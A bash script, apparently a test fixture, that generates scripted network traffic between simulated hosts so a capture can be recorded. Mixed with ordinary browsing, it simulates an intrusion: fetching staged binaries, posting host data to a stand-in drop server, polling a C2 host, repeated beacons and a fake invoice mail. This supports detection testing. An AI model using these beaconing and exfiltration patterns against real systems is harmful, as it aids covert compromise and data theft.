#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
# traffic: what the clients do, in order. Sourced by record.sh, which gives
# desk, lab and world: each runs a command on that host for 20 s at most.
# A client that fails is part of the play, so nothing here ends the script.
# shellcheck disable=SC2154

old='Mozilla/4.0 (compatible; Lantern 1.3)'
new='Mozilla/5.0 (X11; Linux x86_64; rv:102.0) Gecko/20100101 Firefox/102.0'
fetch=(curl -sS -o /dev/null --max-time 8)

# An ordinary morning: news, pages on one connection, compressed and in parts.
desk "${fetch[@]}" -4 -A "$new" --compressed http://news.example/ \
	-o /dev/null http://news.example/page.html \
	-o /dev/null http://news.example/style.css
desk "${fetch[@]}" -A "$new" http://michigan.example/ \
	-o /dev/null http://michigan.example/lakes.html
desk "${fetch[@]}" -4 -k -A "$new" https://www.michigan.example/
desk "${fetch[@]}" -4 http://files.michigan.example/readme.txt \
	-o /dev/null http://files.michigan.example/Gate.php
desk "${fetch[@]}" -4 http://xn--znxs8w.example/

# Addresses beside and inside the listed networks.
desk "${fetch[@]}" -4 http://below.news.example/
desk "${fetch[@]}" -4 http://inside.news.example/
desk "${fetch[@]}" http://203.0.113.79/ad.js
lab "${fetch[@]}" http://203.0.113.95/
lab "${fetch[@]}" http://203.0.113.128/
lab "${fetch[@]}" -g 'http://[2001:db8:64:ffff::7]/'
lab "${fetch[@]}" -g 'http://[2001:db8:65::7]/'

# The desk opens the wrong mail: stages, a form sent back, a portal.
desk "${fetch[@]}" -A "$old" http://higan.example/
desk "${fetch[@]}" -6 -A "$old" http://higan.example/gate/00c0ffee.php
desk "${fetch[@]}" -4 http://drop.higan.example/stage/one.bin \
	-o /dev/null 'http://drop.higan.example/stage/two.bin?id=7' \
	-o /dev/null http://drop.higan.example/upload.php \
	--next -sS -o /dev/null -4 -d 'host=desk&up=3' \
	http://drop.higan.example/submit.php
desk "${fetch[@]}" -k https://portal.higan.example/login
desk "${fetch[@]}" -k --tls-max 1.2 \
	--resolve c2.toro.example:8443:198.51.100.70 \
	https://c2.toro.example:8443/poll
desk "${fetch[@]}" -k --resolve michigan.example:443:198.51.100.23 \
	https://michigan.example/
desk "${fetch[@]}" -4 'http://updates.toro.example/check?v=2'
desk python3 "$here/record/pipeline.py" 198.51.100.61 updates.toro.example \
	'/check?v=3' '/check?v=4'
desk "${fetch[@]}" -x http://198.51.100.62:80 \
	http://mirror.toro.example/feed.xml
desk "${fetch[@]}" --connect-timeout 4 http://198.51.100.99/
desk "${fetch[@]}" http://198.51.100.23:4444/

# The lab machine calls home, three times and once on another port.
for i in 1 2 3; do
	lab "${fetch[@]}" -4 -A 'Lantern/1.3' \
		"http://beacon1.kagari.example/gate/deadbee$i.php"
	sleep 20
done
lab "${fetch[@]}" -4 -A 'Lantern/1.3' http://beacon2.kagari.example:8080/
lab "${fetch[@]}" -4 -A 'lantern/1.3' http://news.example/submit.php

# Names: not there, refused, in capitals over TCP, several answers, mail.
lab getent ahostsv4 kagari.example
desk getent ahostsv4 higan.example.michigan.example
lab python3 "$here/record/dnsquery.py" 2001:db8:53::53 shadow.example A
lab_tcp getent ahostsv4 HIGAN.example
lab python3 "$here/record/dnsquery.py" 192.0.2.53 multi.toro.example A
lab python3 "$here/record/dnsquery.py" 198.51.100.77 whoami.example A
desk python3 "$here/record/dnsquery.py" 192.0.2.53 okuribi.example MX tcp
desk python3 "$here/record/mail.py" mx.okuribi.example \
	billing@okuribi.example desk@home.example 'Invoice 4711'

# From outside to the own server, and between own hosts.
world "${fetch[@]}" --interface 203.0.113.9 -A 'probe/0.1' \
	-H 'Host: intranet.example' http://10.20.30.80/cgi-bin/status.sh
world "${fetch[@]}" --interface 203.0.113.9 http://10.20.30.80:22/
lab "${fetch[@]}" http://10.20.30.80/wiki/
lab "${fetch[@]}" -A "$old" http://10.20.30.11:8000/gate/0badcafe.php
